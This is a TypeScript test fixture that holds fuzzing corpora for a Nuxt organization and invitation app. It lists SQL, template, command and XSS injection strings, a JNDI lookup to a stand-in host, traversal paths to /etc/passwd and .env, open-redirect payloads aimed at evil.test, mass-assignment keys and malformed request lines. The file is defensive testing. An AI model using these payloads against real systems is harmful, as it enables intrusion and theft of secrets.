/** Strings that broke other people's servers. The corpus test puts each of them everywhere a client can. */
export const injections: readonly string[] = [
  // SQL
  '\' OR \'1\'=\'1', '1; DROP TABLE memberships;--', '%\' UNION SELECT * FROM users--', '\\\'; SELECT 1', '" OR ""="', '1/**/OR/**/1=1', 'x\' AND randomblob(100000000)--', '%', '_', '%%%%%',
  // Other languages
  '{"$gt":""}', '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '$(id)', '`id`', '| cat /etc/passwd', '; ls -la', '*)(uid=*', '${jndi:ldap://evil.test/a}', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '%s%n%x%d', '!!js/function "x"',
  // Markup
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '\'-alert(1)-\'', '</title><svg/onload=alert(1)>',
  // Paths
  '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '..\\..\\windows\\win.ini', '%2e%2e%2f', '....//....//', '/etc/passwd%00.png', 'file:///etc/passwd', '.', '..', '.env', '.git/config',
  // Control characters and Unicode
  '\u0000', 'a\u0000b', 'a\r\nSet-Cookie: owned=1', 'a\nb', '\u202egnp.exe', '\ufeff', '\ud800', 'İıſK', '①②③', 'ｏｒｇ：ａｄｍｉｎ', '🦊'.repeat(30), 'a\u0301'.repeat(40),
  // Names and numbers that mean something to JavaScript
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'Infinity', '-1', '1e309', '0x10', '9007199254740993', 'true', '[object Object]', '[]', '{}',
  // Length
  'a'.repeat(5000), '%41'.repeat(500), '('.repeat(2000),
]

/** Return paths that must not lead away from the app. */
export const redirects: readonly string[] = [
  'https://evil.test', 'https://evil.test/', '//evil.test', '///evil.test', '////evil.test', '/\\evil.test', '\\\\evil.test', '/\\/evil.test', '\\/evil.test', 'http:evil.test', 'https:/evil.test', 'https:///evil.test',
  '//evil.test/%2f..', '/%09/evil.test', '/\t/evil.test', '\t//evil.test', ' //evil.test', '/\n/evil.test', '//evil.test\\@localhost', 'http://localhost@evil.test/', 'http://localhost:80@evil.test', 'http://localhost.evil.test/',
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', 'file:///etc/passwd', 'blob:https://evil.test/x', '/orgs/..//evil.test', '/.//evil.test', '/x/..//evil.test/', '/%2f%2fevil.test', '/%5cevil.test',
  '?redirect_url=//evil.test', '#//evil.test', '/orgs#@evil.test', '//[::1]:1/', '//0x7f000001/', '//①②⑦.⓪.⓪.①/', '/\u0000/evil.test', '/\r\nLocation: https://evil.test', `/${'a'.repeat(3000)}`, 'ftp://evil.test', '//evil.test:443', '//evil%E3%80%82test', '//evil。test', '/sign-in?redirect_url=https://evil.test',
]

/** Keys a client may try to set beside the ones it should. */
export const extraKeys: readonly string[] = [
  'organizationId', 'organization_id', 'orgId', 'org_id', 'organization', 'org', 'slug', 'userId', 'user_id', 'user', 'inviterUserId', 'inviter_user_id', 'requestingUserId', 'permissions', 'permission', 'roleName', 'admin', 'isAdmin', 'plan', 'features', 'seats', 'maxAllowedMemberships', 'id', 'status', 'createdAt',
  'expiresAt', 'redirectUrl', 'redirect_url', 'publicMetadata', 'public_metadata', 'privateMetadata', 'private_metadata', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', 'toJSON', '$where', 'emailAddress[]', 'role[]', 'body', 'headers', 'session', 'token', 'secretKey', '', ' role', 'Role', 'ROLE',
]

/** Request lines that are no tidy path. */
export const requestLines: readonly string[] = [
  '/', '//', '///', '/\\', '//[', '/?', '/#', '*', '/.', '/..', '/./', '/../', '/%', '/%zz', '/%00', '/%2e', '/%2e%2e/', '/%ff%fe', '/;', '/api', '/api/', '/api//', '//api/orgs/SLUG', '/api//orgs/SLUG', '/api/orgs//SLUG', '/api/orgs/SLUG/', '/api/orgs/SLUG//', '/api/orgs/SLUG//invitations',
  '/%61pi/orgs/SLUG', '/%61pi/orgs/SLUG/invitations', '/api%2forgs%2fSLUG', '/api/%6frgs/SLUG/invitations', '/API/orgs/SLUG', '/Api/Orgs/SLUG/Invitations', '/api/orgs/SLUG/INVITATIONS', '/api/orgs/SLUG;x=1', '/api/orgs/SLUG;/invitations', '/api;x/orgs/SLUG', '/api/orgs/SLUG/invitations;', '/api/orgs/SLUG/invitations%3b',
  '/api/orgs/SLUG/invitations.json', '/api/orgs/SLUG%00/invitations', '/api/orgs/SLUG%2finvitations', '/api/orgs/SLUG/..%2finvitations', '/api/orgs/./SLUG/invitations', '/api/orgs/x/../SLUG/invitations', '/api/health/../orgs/SLUG/invitations', '/api/health/..%2forgs/SLUG/invitations', '/api/health%2f..%2forgs/SLUG',
  '/api/webhooks/clerk/../../orgs/SLUG/invitations', '/__clerk/../api/orgs/SLUG/invitations', '/_nuxt/../api/orgs/SLUG/invitations', '/_nuxt/..%2fapi/orgs/SLUG', '/_nuxt/%2e%2e/api/orgs/SLUG/invitations', '/__nuxt_error', '/__nuxt_error?url=//evil.test&status=200', '/__nuxt_error/../api/orgs/SLUG', '/api/orgs/SLUG?/api/health',
  '/api/orgs/SLUG/invitations?/_nuxt/', '/api/orgs/SLUG/invitations#/_nuxt/', 'http://evil.test/', 'http://evil.test/api/orgs/SLUG/invitations', '//evil.test/api/orgs/SLUG/invitations', '//evil.test/..', '/..//evil.test/', '//a//evil.test/', '/x/..//evil.test/', '/\\evil.test', '/orgs/%E0%A4%A', '/orgs/%2e%2e', '/orgs/%5c%5cevil.test', '/orgs/SLUG/../../api',
  '/_ipx/x', '/_payload.json', '/orgs/SLUG/_payload.json', '/orgs/SLUG/members.json', '/api/_nuxt_icon/x', '/.env', '/.git/config', '/server/index.mjs', '/..%2f..%2fserver/index.mjs', '/_nuxt/..%2f..%2fserver%2findex.mjs', '/_nuxt/%2e%2e%2f%2e%2e%2fserver%2findex.mjs', '/%c0%ae%c0%ae/etc/passwd', '/cgi-bin/.%2e/.%2e/etc/passwd', `/${'a'.repeat(9000)}`, `/?${'a=1&'.repeat(2000)}`,
]
